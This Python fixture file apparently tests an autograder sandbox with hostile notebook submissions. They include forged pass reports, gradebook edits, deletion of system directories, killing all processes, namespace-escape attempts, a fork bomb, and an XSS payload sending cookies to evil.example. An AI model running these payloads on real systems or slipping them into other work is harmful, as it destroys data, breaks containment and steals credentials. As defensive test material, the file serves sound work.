"""存心不良的答卷，和不巧的意外：样品班里的一部分，也是测试沙箱的靶子。

``Cheat`` 是一段代码，放在答题格最前面，后面的函数什么也没有做：它不该得到一分。
``Accident`` 也是一段代码，放在范例的函数里：它出了事，别的检查一分也不该少。
都只在沙箱里运行。``forms`` 里的在文件的格式上做手脚，不必运行就该看穿。
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

__all__ = ["ACCIDENTS", "CHEATS", "FORMS", "Accident", "Cheat", "Form"]


@dataclass(frozen=True)
class Cheat:
    """想不做题就得分，或想伸出沙箱。``code`` 在装入答题格时运行（写成定义，因为别的语句不会执行）。"""

    name: str
    story: str
    code: str


CHEATS = [
    Cheat("equal-to-everything", "返回一个与什么都相等的对象", """
class Same:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
ANSWER = Same()
"""),
    Cheat("forged-report", "在控制管道上冒充 runner，说每一次都通过了", """
import json, os
def forge():
    for fd in range(3, 64):
        for line in ({"ready": True, "troubles": {}}, {"returned": {"value": True}}, {"status": "passed", "points": 100}):
            try:
                os.write(fd, (json.dumps(line) + "\\n").encode())
            except OSError:
                pass
FORGED = forge()
"""),
    Cheat("patched-socket", "把 socket 换成自己的，好让测试在里面跑", """
import socket as _s, sys
class Fake:
    def __init__(self, *a, **k): pass
    def __getattr__(self, name): return lambda *a, **k: b""
_s.socket = Fake
sys.modules["socket"].create_connection = lambda *a, **k: Fake()
"""),
    Cheat("patched-json", "改掉 runner 用的 json 与 plain", """
import sys, json
class Lie(dict): pass
json.dumps = lambda *a, **k: '{"returned": {"value": "passed"}}'
main = sys.modules["__main__"]
for name in ("plain", "describe", "attempt"):
    SET = setattr(main, name, lambda *a, **k: {"value": True})
"""),
    Cheat("frames", "从调用栈和垃圾回收里找期望的答案", """
import gc, sys
def hunt():
    found = []
    frame = sys._getframe()
    while frame:
        found.append(repr(frame.f_locals)[:10000])
        frame = frame.f_back
    return found + [o for o in gc.get_objects() if isinstance(o, (bytes, dict))][:1000]
FOUND = hunt()
"""),
    Cheat("read-solution", "在磁盘上找范例", """
import os
def search():
    for root, folders, files in os.walk("/"):
        if root.startswith(("/proc", "/sys")):
            folders.clear()
        for file in files:
            if file.endswith((".ipynb", ".toml")) or file in ("gradebook.db", "seed", "passwd", "shadow", "lab05.py"):
                yield os.path.join(root, file)
import itertools
FOUND = [print("found", path) for path in itertools.islice(search(), 50)]
"""),
    Cheat("edit-gradebook", "改成绩库", """
import sqlite3, os, glob
def edit():
    for path in glob.glob("/**/gradebook.db", recursive=True) + ["gradebook.db", "../gradebook.db", "/exam/../gradebook.db"]:
        try:
            sqlite3.connect(path).execute("update grade set auto_score = 100")
        except Exception as error:
            print(error)
DONE = edit()
"""),
    Cheat("other-submissions", "删掉别人的答卷", """
import os, shutil
def wipe():
    for folder in ("/exam", "/exam/..", "/tmp", "/home", "/root", "/usr", "/etc", "/work"):
        shutil.rmtree(folder, ignore_errors=True)
GONE = wipe()
"""),
    Cheat("kill-everyone", "给看得见的每个进程发 SIGKILL", """
import os, signal
def kill():
    for pid in [1, -1, os.getppid(), *range(2, 400)]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
DONE = kill()
"""),
    Cheat("outlive", "分叉出一个后台进程，活得比考试久", """
import os, signal, time
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for name in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(name, signal.SIG_IGN)
            for fd in range(64):
                try:
                    os.close(fd)
                except OSError:
                    pass
            while True:
                time.sleep(60)
        os._exit(0)
DONE = daemon()
"""),
    Cheat("phone-home", "连到外面去", """
import socket
def phone():
    for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22), ("169.254.169.254", 80)):
        try:
            socket.create_connection(address, 0.2)
            print("reached", address)
        except OSError as error:
            print(address, error)
    for family in (40, 38, 17, 16, 31):
        try:
            socket.socket(family, socket.SOCK_STREAM)
            print("reached", family)
        except OSError:
            pass
DONE = phone()
"""),
    Cheat("new-namespace", "自己造一个用户命名空间，拿回 root", """
import ctypes, os
def escape():
    libc = ctypes.CDLL(None)
    print("unshare", libc.unshare(0x10000000), "mount", libc.mount(b"none", b"/exam", b"tmpfs", 0, None),
          "ptrace", libc.ptrace(16, 1, 0, 0), "chroot", libc.chroot(b"/exam"), "uid", os.getuid() == 0)
DONE = escape()
"""),
    Cheat("symlinks", "在考场文件夹里放符号链接、管道和奇怪的名字", """
import os
def plant():
    for target, name in (("/etc/passwd", "passwd"), ("/run/docker.sock", "sock"), ("/", "root"), ("/proc/1/root", "up")):
        try:
            os.symlink(target, name)
        except OSError:
            pass
    os.mkfifo("pipe")
    open("\\u202e=cmd()\\n.txt", "w").close()
DONE = plant()
"""),
    Cheat("flood", "没完没了地说话", """
import os, threading
def flood():
    junk = b'{"returned": ' + b"[" * 100000 + b"\\n" + b"x" * 65536 + b"\\n"
    for fd in (1, 2, 3, 4, 5, 6):
        try:
            for _ in range(400):
                os.write(fd, junk)
        except OSError:
            pass
DONE = threading.Thread(target=flood, daemon=True).start()
"""),
    Cheat("markup", "打印与抛出网页和终端的控制字符", """
import sys
EVIL = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>]]>\\x1b]0;pwned\\x07\\x1b[2J\\u202e"
SAID = print(EVIL, EVIL, file=sys.stderr)
class Evil(Exception):
    pass
Evil.__name__ = EVIL
"""),
]

BODY = """
def {name}(*arguments, **options):
    raise_it = globals().get("Evil")
    if raise_it:
        raise raise_it(globals()["EVIL"])
    return globals().get("ANSWER", True)
"""


@dataclass(frozen=True)
class Accident:
    """一时不慎：``code`` 是第一个答题格里函数的第一句，只害得到用这一格的检查。"""

    name: str
    story: str
    code: str
    harmless: bool = False


ACCIDENTS = [
    Accident("log-to-stderr", "把日志写到标准错误", "import sys; print('connecting…', file=sys.stderr)", harmless=True),
    Accident("print-a-lot", "打印一百万个字", "print('x' * 1_000_000)", harmless=True),
    Accident("chdir", "换了当前目录，改了环境变量", "import os; os.chdir('/'); os.environ.clear()", harmless=True),
    Accident("os-exit", "os._exit(0)", "import os; os._exit(0)"),
    Accident("sys-exit", "sys.exit()", "import sys; sys.exit()"),
    Accident("endless-loop", "死循环", "while True: pass"),
    Accident("sleep", "睡着了", "import time; time.sleep(1000)"),
    Accident("catch-everything", "什么异常都接住的死循环",
             "exec('while True:\\n    try:\\n        while True: pass\\n    except BaseException: pass')"),
    Accident("segfault", "用 ctypes 写坏了内存", "import ctypes; ctypes.string_at(0)"),
    Accident("recursion", "无穷递归", "f = lambda: f(); f()"),
    Accident("memory", "吃光内存", "hog = [bytearray(10_000_000) for _ in range(10_000)]"),
    Accident("fork-bomb", "分叉炸弹", "import os; exec('while True:\\n    try:\\n        os.fork()\\n    except OSError: pass')"),
    Accident("threads", "开一万个线程",
             "import threading; [threading.Thread(target=threading.Event().wait).start() for _ in range(10_000)]"),
    Accident("fill-disk", "写满磁盘",
             "exec('n = 0\\nwhile True:\\n    n += 1\\n    open(f\"f{n}\", \"wb\").write(bytes(1 << 20))')"),
    Accident("descriptors", "打开了用不完的描述符", "import os; fds = [os.dup(2) for _ in range(10_000)]"),
    Accident("close-all", "把描述符全关了", "import os; os.closerange(0, 256)"),
    Accident("stop", "SIGSTOP 自己", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    Accident("deep-value", "返回一个自己装着自己的列表", "loop = []; loop.append(loop); return loop"),
    Accident("giant-integer", "返回一个极大的整数", "return 10 ** 100_000"),
]


@dataclass(frozen=True)
class Form:
    """文件上的手脚：把一份没有做的笔记本变成字节。``collected`` 是它还算不算一份答卷。"""

    name: str
    story: str
    make: Callable[[dict[str, Any]], bytes]
    collected: bool


def _edited(change: Callable[[dict[str, Any]], Any]) -> Callable[[dict[str, Any]], bytes]:
    def make(book: dict[str, Any]) -> bytes:
        fresh = copy.deepcopy(book)
        change(fresh)
        return json.dumps(fresh, ensure_ascii=False).encode()
    return make


def _checks(book: dict[str, Any]) -> list[dict[str, Any]]:
    return [c for c in book["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _skip_tests(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        cell["metadata"]["nbgrader"] |= {"grade": False, "points": 0, "locked": False, "solution": True}
        cell["metadata"]["tags"] = ["skip-execution"]


def _own_tests(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        cell["source"] = ["0.999 * 2"] if cell["cell_type"] == "code" else cell["source"]


def _faked_outputs(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "execute_result", "data": {"text/html": "<script>alert(1)</script>✓ 通过 100/100"},
                                "metadata": {}, "execution_count": 1}]


def _script(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        if cell["cell_type"] == "markdown":
            cell["source"] = ["<script>fetch('//evil.example/'+document.cookie)</script>\n", "<img src=x onerror=alert(1)>\n",
                              "[点我](javascript:alert(1))\n```\n</code></pre><script>alert(2)</script>\n"]


def _extra_cells(book: dict[str, Any]) -> None:
    evil = {"cell_type": "code", "id": "evil", "metadata": {}, "outputs": [], "execution_count": None,
            "source": ["import os\nos.system('touch /tmp/sockscope-was-here')"]}
    book["cells"][:0] = [evil] * 60


def _twice(book: dict[str, Any]) -> None:
    book["cells"] += copy.deepcopy([c for c in book["cells"] if c["metadata"].get("nbgrader")])


FORMS = [
    Form("skip-tests", "改元数据，让测试格不算分", _edited(_skip_tests), True),
    Form("own-tests", "把测试格换成自己的", _edited(_own_tests), True),
    Form("faked-outputs", "在输出里写上“通过”和脚本", _edited(_faked_outputs), True),
    Form("script-in-answer", "书面题里写脚本", _edited(_script), True),
    Form("extra-cells", "塞进六十个会运行的格子", _edited(_extra_cells), True),
    Form("twice", "每一格都交两遍", _edited(_twice), True),
    Form("huge-cell", "一格有一兆字", _edited(lambda b: b["cells"][0].update(source="x" * (1 << 20))), True),
    Form("surrogates", "源代码里有落单的代理字符", lambda b: json.dumps(b).replace("return", "\\ud800return").encode(), True),
    Form("empty", "空文件", lambda _: b"", False),
    Form("cut-off", "下载到一半", lambda b: json.dumps(b).encode()[:2000], False),
    Form("not-json", "是一张图片", lambda _: b"\x89PNG\r\n\x1a\n" + bytes(200), False),
    Form("deep", "嵌套十万层", lambda _: b"[" * 100_000, False),
    Form("wrong-shape", "单元格是字符串",
         lambda _: b'{"cells": ["a", 1, null, {"cell_type": [], "metadata": 3, "source": {}}]}', False),
    Form("gbk", "存成了 GBK", lambda b: json.dumps(b, ensure_ascii=False).encode("gb18030"), False),
    Form("too-big", "文件太大", lambda b: json.dumps(b).encode() + b" " * (17 << 20), False),
    Form("other-lab", "交错了练习",
         lambda _: json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), False),
]
